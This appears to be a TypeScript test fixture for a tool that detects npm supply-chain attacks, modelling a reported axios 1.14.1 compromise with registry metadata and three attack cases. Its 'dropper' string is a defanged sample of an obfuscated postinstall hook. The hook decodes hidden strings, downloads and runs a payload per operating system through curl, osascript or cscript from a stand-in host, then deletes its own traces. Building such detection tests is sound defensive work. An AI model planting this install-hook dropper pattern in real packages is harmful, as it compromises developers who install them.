import type { Publication } from '../../../src/releases/release.ts'
import type { NpmAttack } from '../npm-attack.ts'
import { blob } from '../random.ts'

const before: Publication = {
  registry: 'https://registry.invalid/',
  publishedAt: '2026-03-27T19:01:40.000Z',
  publisher: 'GitHub Actions',
  provenance: true,
  history: [
    { version: '1.13.4', publishedAt: '2026-01-27T23:28:00.000Z', publisher: 'GitHub Actions', provenance: true },
    { version: '1.13.5', publishedAt: '2026-02-08T16:51:00.000Z', publisher: 'GitHub Actions', provenance: true },
  ],
}

const after: Publication = {
  registry: 'https://registry.invalid/',
  publishedAt: '2026-03-31T00:21:58.000Z',
  publisher: 'a-maintainer',
  provenance: false,
  history: [...before.history, { version: '1.13.6', publishedAt: '2026-03-27T19:01:40.000Z', publisher: 'GitHub Actions', provenance: true }],
  dependencies: { 'plain-cipher-js': { firstPublishedAt: '2026-03-30T05:57:32.000Z', publishedAt: '2026-03-30T23:59:12.000Z' } },
}

const source = 'Reports on axios 1.14.1 and 0.30.4 of 31 March 2026: a new dependency that no code imports, first published the day before'
const tamper = () => ({ manifest: { dependencies: { 'plain-cipher-js': '^4.2.1' } } })

/** The hook of the young dependency: a table of scrambled strings, one script for each system, and traces removed. */
const dropper = `const stq = [${Array.from({ length: 18 }, (_, index) => JSON.stringify(blob(`axios/${index}`, 24 + 8 * (index % 5)))).join(', ')}];
const ord = "OrDeR_9907";
const trans = function (x, r) {
  const keys = r.split("").map(Number);
  return x.split("").map(function (c, i) {
    return String.fromCharCode(c.charCodeAt(0) ^ keys[(7 * i * i) % 10] ^ 333);
  }).join("");
};
const open = function (x, r) {
  const back = x.split("").reverse().join("").replace(/_/g, "=");
  return trans(Buffer.from(back, "base64").toString("utf8"), r);
};
const entry = function (id) {
  throw new Error("inert");
  const fs = require("fs");
  const os = require("os");
  const path = require("path");
  const run = require(open(stq[2], ord)).exec;
  const self = __filename;
  const where = "http://packages.invalid:8000/" + id;
  const platform = os.platform();
  let line = "";
  if (platform === "darwin") {
    const script = path.join(os.tmpdir(), id);
    fs.writeFileSync(script, open(stq[11], ord).replaceAll("SCR_LINK", where));
    line = "nohup osascript \\"" + script + "\\" > /dev/null 2>&1 &";
  } else if (platform === "win32") {
    const script = path.join(os.tmpdir(), id + ".vbs");
    fs.writeFileSync(script, open(stq[12], ord).replaceAll("SCR_LINK", where));
    line = "cscript \\"" + script + "\\" //nologo && del \\"" + script + "\\" /f";
  } else {
    line = "curl -o /tmp/ld.py -d packages.invalid/product2 -s " + where + " && nohup python3 /tmp/ld.py " + where + " > /dev/null 2>&1 &";
  }
  run(line);
  fs.unlink(self, function () {});
  fs.unlink("package.json", function () {});
  fs.rename("package.md", "package.json", function () {});
};
entry("6202033");
`

export const axiosAttacks: readonly NpmAttack[] = [
  {
    name: 'axios-2026',
    title: 'axios 1.14.1: an unused dependency that is a day old, published past the build system',
    source,
    use: 'development',
    base: 'axios',
    tamper,
    publications: { old: before, new: after },
  },
  {
    name: 'axios-2026-no-registry',
    title: 'axios 1.14.1 where nothing is known from the registry',
    source,
    use: 'development',
    base: 'axios',
    tamper,
  },
  {
    name: 'axios-2026-dependency',
    title: 'the dependency of axios 1.14.1 itself: clean at first, a day later with an install hook',
    source,
    use: 'development',
    base: 'iconv-lite',
    tamper: () => ({
      added: [{ path: 'setup.js', code: dropper }],
      manifest: { scripts: { postinstall: 'node setup.js' } },
      data: [{ path: 'package.md', bytes: Buffer.from('{"name":"plain","version":"4.2.0"}\n') }],
    }),
    evasions: ['concatenated-names', 'minified', 'in-test-file', 'two-step'],
  },
]
